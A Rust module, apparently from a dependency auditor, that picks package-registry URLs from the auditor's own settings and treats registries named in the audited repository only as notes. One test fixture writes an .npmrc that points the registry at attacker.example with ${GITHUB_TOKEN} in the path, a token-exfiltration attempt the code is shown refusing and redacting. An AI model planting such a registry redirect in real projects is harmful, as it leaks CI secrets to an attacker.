//! Registry base URLs: `[registries]` first, else each ecosystem's own settings as the auditor
//! has them (environment variables, `~/.npmrc`, `$CARGO_HOME/config.toml`), else what the
//! ecosystem's own client answers. Files of the audited tree never choose an endpoint and are
//! never `${VAR}`-expanded: a repository's `.npmrc` or `.cargo/config.toml` naming another
//! registry is a note only (README "Dependencies").

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use super::redact::redact_url;
use crate::deps::model::Ecosystem;
use crate::problem::{Problem, Stage};

/// Reads an environment variable (`std::env::var(..).ok()` in the binary; a map in tests).
pub type Env<'a> = &'a dyn Fn(&str) -> Option<String>;

/// The bases found, where each came from, and notes about repository files.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Discovered {
    pub bases: BTreeMap<Ecosystem, String>,
    /// `config`, `env`, `user-file` or `client`, per ecosystem in `bases`.
    pub sources: BTreeMap<Ecosystem, String>,
    pub notes: Vec<Problem>,
}

/// Base URLs per ecosystem, without asking any client (see [`discover`]).
pub fn registry_bases(
    config: &BTreeMap<String, String>,
    root: &Path,
    env: Env,
) -> BTreeMap<Ecosystem, String> {
    discover(config, root, env, &[]).bases
}

/// Base URLs per ecosystem: `config` (`[registries]`, by ecosystem id) first; else the
/// auditor's settings read through `env`: `npm_config_registry`/`NPM_CONFIG_REGISTRY`, then
/// `registry=` of `$HOME/.npmrc`; `PIP_INDEX_URL`; the first http(s) entry of `GOPROXY`;
/// cargo's `replace-with` of crates-io in `$CARGO_HOME/config.toml` (a `sparse+` index only);
/// else, for the ecosystems in `ask` (those in use; none when `QUARTERDECK_ASK_CLIENTS` is `0`),
/// the ecosystem's client. `root`'s own `.npmrc` and `.cargo/config(.toml)` are only compared:
/// naming another registry is a note.
pub fn discover(
    config: &BTreeMap<String, String>,
    root: &Path,
    env: Env,
    ask: &[Ecosystem],
) -> Discovered {
    let ask_clients = env("QUARTERDECK_ASK_CLIENTS").is_none_or(|v| v != "0");
    let mut out = Discovered::default();
    for eco in Ecosystem::ALL {
        let configured = config
            .get(eco.as_str())
            .map(|s| s.trim().to_string())
            .filter(|s| !s.is_empty())
            .map(|b| (b, "config"));
        let found = configured
            .or_else(|| match eco {
                Ecosystem::Npm => npm_registry(env),
                Ecosystem::Pypi => env("PIP_INDEX_URL")
                    .filter(|u| is_http(u.trim()))
                    .map(|u| (u.trim().to_string(), "env")),
                Ecosystem::Go => env("GOPROXY").and_then(|v| goproxy(&v)).map(|b| (b, "env")),
                Ecosystem::Cargo => cargo_registry(env).map(|b| (b, "user-file")),
                _ => None,
            })
            .or_else(|| {
                if !ask_clients || !ask.contains(&eco) {
                    return None;
                }
                super::client::ask(eco, env, root).map(|b| (b, "client"))
            });
        if let Some((base, source)) = &found {
            out.bases.insert(eco, base.clone());
            out.sources.insert(eco, source.to_string());
        }
        if let Some((file, named)) = repository_setting(eco, root) {
            let used = found.as_ref().map(|(b, _)| b.trim_end_matches('/'));
            if used != Some(named.trim_end_matches('/')) {
                out.notes.push(Problem::new(
                    file,
                    Stage::Registry,
                    format!(
                        "names {} registry {}, not used: files of the audited repository never choose a registry (set it in `[registries]`, the environment or your own configuration)",
                        eco.as_str(),
                        redact_url(&named)
                    ),
                ));
            }
        }
    }
    out
}

fn is_http(url: &str) -> bool {
    url.starts_with("http://") || url.starts_with("https://")
}

fn home(env: Env) -> Option<PathBuf> {
    env("HOME").filter(|h| !h.is_empty()).map(PathBuf::from)
}

fn npm_registry(env: Env) -> Option<(String, &'static str)> {
    let from_env = env("npm_config_registry")
        .or_else(|| env("NPM_CONFIG_REGISTRY"))
        .map(|v| v.trim().to_string())
        .filter(|v| is_http(v));
    if let Some(b) = from_env {
        return Some((b, "env"));
    }
    let file = home(env)?.join(".npmrc");
    let text = std::fs::read_to_string(file).ok()?;
    npmrc_registry(&text, Some(env)).map(|b| (b, "user-file"))
}

/// The registry a repository file of `root` names (as written, never expanded), and the file.
fn repository_setting(eco: Ecosystem, root: &Path) -> Option<(String, String)> {
    match eco {
        Ecosystem::Npm => {
            let text = read_small(&root.join(".npmrc"))?;
            npmrc_registry(&text, None).map(|b| (".npmrc".to_string(), b))
        }
        Ecosystem::Cargo => ["config.toml", "config"].iter().find_map(|name| {
            let text = read_small(&root.join(".cargo").join(name))?;
            let table = text.parse::<toml::Table>().ok()?;
            cargo_replacement(&[table]).map(|b| (format!(".cargo/{name}"), b))
        }),
        _ => None,
    }
}

/// A small regular file (not a link out of the tree), or `None`.
fn read_small(path: &Path) -> Option<String> {
    let meta = std::fs::symlink_metadata(path).ok()?;
    if !meta.is_file() || meta.len() > 1024 * 1024 {
        return None;
    }
    std::fs::read_to_string(path).ok()
}

/// The `registry=` of an .npmrc (`;`/`#` comments, quotes); scoped `@scope:registry=` lines
/// are left out. `${VAR}` is expanded only with `env` (the auditor's own files); a repository's
/// file is read as written.
pub fn npmrc_registry(text: &str, env: Option<Env>) -> Option<String> {
    text.lines().find_map(|line| {
        let line = line.trim();
        if line.starts_with(';') || line.starts_with('#') {
            return None;
        }
        let (key, value) = line.split_once('=')?;
        if key.trim() != "registry" {
            return None;
        }
        let value = value.trim().trim_matches('"').trim_matches('\'');
        let value = match env {
            Some(env) => expand_vars(value, env),
            None => value.to_string(),
        };
        is_http(&value).then_some(value)
    })
}

fn expand_vars(value: &str, env: Env) -> String {
    let mut out = String::new();
    let mut rest = value;
    while let Some(start) = rest.find("${") {
        let Some(len) = rest[start..].find('}') else {
            break;
        };
        out.push_str(&rest[..start]);
        out.push_str(&env(&rest[start + 2..start + len]).unwrap_or_default());
        rest = &rest[start + len + 1..];
    }
    out.push_str(rest);
    out
}

/// The first http(s) proxy of a GOPROXY list (`,` or `|` separated); `off` before it means none.
pub fn goproxy(value: &str) -> Option<String> {
    for entry in value.split([',', '|']).map(str::trim) {
        if entry == "off" {
            return None;
        }
        if is_http(entry) {
            return Some(entry.to_string());
        }
    }
    None
}

fn cargo_registry(env: Env) -> Option<String> {
    let cargo_home = env("CARGO_HOME")
        .filter(|h| !h.is_empty())
        .map(PathBuf::from)
        .or_else(|| home(env).map(|h| h.join(".cargo")))?;
    let tables: Vec<toml::Table> = [cargo_home.join("config.toml"), cargo_home.join("config")]
        .iter()
        .filter_map(|f| std::fs::read_to_string(f).ok())
        .filter_map(|t| t.parse::<toml::Table>().ok())
        .collect();
    cargo_replacement(&tables)
}

/// Follow `[source.crates-io] replace-with` through `[source.X]` (`registry`) or
/// `[registries.X]` (`index`), the first table taking precedence; only `sparse+` URLs are usable.
pub fn cargo_replacement(tables: &[toml::Table]) -> Option<String> {
    let get = |section: &str, name: &str, key: &str| -> Option<String> {
        tables.iter().find_map(|t| {
            t.get(section)?
                .as_table()?
                .get(name)?
                .as_table()?
                .get(key)?
                .as_str()
                .map(str::to_string)
        })
    };
    let mut name = "crates-io".to_string();
    for _ in 0..16 {
        if let Some(next) = get("source", &name, "replace-with") {
            name = next;
            continue;
        }
        if name == "crates-io" {
            return None;
        }
        let url = get("source", &name, "registry").or_else(|| get("registries", &name, "index"))?;
        return url.starts_with("sparse+").then_some(url);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn env_of(pairs: &[(&str, &str)]) -> impl Fn(&str) -> Option<String> + use<> {
        let map: BTreeMap<String, String> = pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect();
        move |k: &str| map.get(k).cloned()
    }

    #[test]
    fn config_beats_environment() {
        let dir = tempfile::tempdir().unwrap();
        let config: BTreeMap<String, String> = [(
            "npm".to_string(),
            "https://registry.example/npm-mirror/".to_string(),
        )]
        .into();
        let env = env_of(&[
            ("npm_config_registry", "https://registry.example/from-env/"),
            ("PIP_INDEX_URL", "https://registry.example/pypi/simple/"),
        ]);
        let bases = registry_bases(&config, dir.path(), &env);
        assert_eq!(
            bases.get(&Ecosystem::Npm).map(String::as_str),
            Some("https://registry.example/npm-mirror/")
        );
        assert_eq!(
            bases.get(&Ecosystem::Pypi).map(String::as_str),
            Some("https://registry.example/pypi/simple/")
        );
        assert_eq!(
            bases.len(),
            2,
            "nothing configured for the others: no built-in default"
        );
    }

    #[test]
    fn home_npmrc_is_used_and_the_repository_one_only_noted() {
        let project = tempfile::tempdir().unwrap();
        let home = tempfile::tempdir().unwrap();
        std::fs::write(
            home.path().join(".npmrc"),
            "; warehouse workstation\n@ledger:registry=https://registry.example/scoped/\nregistry = \"https://${NPM_TOKEN_HOST}/home/\"\n",
        )
        .unwrap();
        let home_s = home.path().to_string_lossy().into_owned();
        let env = env_of(&[
            ("HOME", &home_s),
            ("NPM_TOKEN_HOST", "registry.example"),
            ("GITHUB_TOKEN", "ghs_runner_secret"),
        ]);
        let found = discover(&BTreeMap::new(), project.path(), &env, &[]);
        assert_eq!(
            found.bases.get(&Ecosystem::Npm).map(String::as_str),
            Some("https://registry.example/home/"),
            "the auditor's own file is expanded"
        );
        assert_eq!(
            found.sources.get(&Ecosystem::Npm).map(String::as_str),
            Some("user-file")
        );
        assert!(found.notes.is_empty());
        std::fs::write(
            project.path().join(".npmrc"),
            "# billing\nregistry=https://u:pw@attacker.example/${GITHUB_TOKEN}/\n",
        )
        .unwrap();
        let found = discover(&BTreeMap::new(), project.path(), &env, &[]);
        assert_eq!(
            found.bases.get(&Ecosystem::Npm).map(String::as_str),
            Some("https://registry.example/home/"),
            "the repository's .npmrc never chooses the endpoint"
        );
        assert_eq!(found.notes.len(), 1);
        assert_eq!(found.notes[0].path, ".npmrc");
        assert_eq!(
            found.notes[0].message,
            "names npm registry https://***@attacker.example/${GITHUB_TOKEN}/, not used: files of the audited repository never choose a registry (set it in `[registries]`, the environment or your own configuration)"
        );
        assert!(!format!("{found:?}").contains("ghs_runner_secret"));
        let with_env = env_of(&[
            ("HOME", &home_s),
            ("NPM_CONFIG_REGISTRY", "http://127.0.0.1:4873/"),
        ]);
        let found = discover(&BTreeMap::new(), project.path(), &with_env, &[]);
        assert_eq!(
            found.bases.get(&Ecosystem::Npm).map(String::as_str),
            Some("http://127.0.0.1:4873/")
        );
        assert_eq!(
            found.sources.get(&Ecosystem::Npm).map(String::as_str),
            Some("env")
        );
        // The same registry in the repository's file and the auditor's: no note.
        std::fs::write(
            project.path().join(".npmrc"),
            "registry=http://127.0.0.1:4873\n",
        )
        .unwrap();
        assert!(
            discover(&BTreeMap::new(), project.path(), &with_env, &[])
                .notes
                .is_empty()
        );
    }

    #[test]
    fn goproxy_lists() {
        assert_eq!(
            goproxy("https://proxy.example/go,direct").as_deref(),
            Some("https://proxy.example/go")
        );
        assert_eq!(
            goproxy("direct|https://proxy.example/b").as_deref(),
            Some("https://proxy.example/b")
        );
        assert_eq!(goproxy("off"), None);
        assert_eq!(goproxy("direct"), None);
        assert_eq!(goproxy("off,https://proxy.example/late"), None);
        assert_eq!(
            goproxy(" file:///srv/goproxy , http://127.0.0.1:3000 ").as_deref(),
            Some("http://127.0.0.1:3000")
        );
    }

    #[test]
    fn cargo_replace_with() {
        let t = |s: &str| s.parse::<toml::Table>().unwrap();
        let project = t(
            "[source.crates-io]\nreplace-with = \"ledger-mirror\"\n[source.ledger-mirror]\nregistry = \"sparse+https://registry.example/cargo/index/\"\n",
        );
        assert_eq!(
            cargo_replacement(&[project]).as_deref(),
            Some("sparse+https://registry.example/cargo/index/")
        );
        let chained = t(
            "[source.crates-io]\nreplace-with = \"a\"\n[source.a]\nreplace-with = \"b\"\n[registries.b]\nindex = \"sparse+http://127.0.0.1:9/index/\"\n",
        );
        assert_eq!(
            cargo_replacement(&[chained]).as_deref(),
            Some("sparse+http://127.0.0.1:9/index/")
        );
        let git = t(
            "[source.crates-io]\nreplace-with = \"g\"\n[source.g]\nregistry = \"https://git.example/index.git\"\n",
        );
        assert_eq!(
            cargo_replacement(&[git]),
            None,
            "a git index is not readable over HTTP"
        );
        let vendored = t(
            "[source.crates-io]\nreplace-with = \"vendored\"\n[source.vendored]\ndirectory = \"vendor\"\n",
        );
        assert_eq!(cargo_replacement(&[vendored]), None);
        let looped = t(
            "[source.crates-io]\nreplace-with = \"x\"\n[source.x]\nreplace-with = \"crates-io\"\n",
        );
        assert_eq!(cargo_replacement(&[looped]), None);
        // CARGO_HOME's file is used; the project's only noted.
        let dir = tempfile::tempdir().unwrap();
        let home = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join(".cargo")).unwrap();
        std::fs::write(dir.path().join(".cargo/config.toml"), "[source.crates-io]\nreplace-with = \"p\"\n[source.p]\nregistry = \"sparse+https://registry.example/project/\"\n").unwrap();
        std::fs::write(home.path().join("config.toml"), "[source.crates-io]\nreplace-with = \"h\"\n[source.h]\nregistry = \"sparse+https://registry.example/home/\"\n").unwrap();
        let cargo_home = home.path().to_string_lossy().into_owned();
        let env = env_of(&[("CARGO_HOME", &cargo_home)]);
        let found = discover(&BTreeMap::new(), dir.path(), &env, &[]);
        assert_eq!(
            found.bases.get(&Ecosystem::Cargo).map(String::as_str),
            Some("sparse+https://registry.example/home/")
        );
        assert_eq!(found.notes.len(), 1);
        assert_eq!(found.notes[0].path, ".cargo/config.toml");
        let other = tempfile::tempdir().unwrap();
        let bases = registry_bases(&BTreeMap::new(), other.path(), &env);
        assert_eq!(
            bases.get(&Ecosystem::Cargo).map(String::as_str),
            Some("sparse+https://registry.example/home/")
        );
    }
}
